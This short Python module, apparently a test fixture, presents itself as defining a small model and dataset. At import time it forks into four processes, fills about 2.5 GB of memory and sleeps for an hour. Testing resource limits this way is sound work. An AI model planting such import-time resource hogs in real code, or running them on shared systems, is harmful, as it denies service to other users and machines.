"""Takes gigabytes in four processes, a little at a time."""

import torch
from torch import nn
from torch.utils.data import TensorDataset


import os
import time

hoard = []
for _ in range(2):
    os.fork()
while len(hoard) < 40:
    hoard.append(torch.ones(1 << 24, dtype=torch.uint8))
time.sleep(3600)


def build_model():
    return nn.Linear(4, 3)


def build_dataset():
    return TensorDataset(torch.randn(96, 4), torch.randint(3, (96,)))
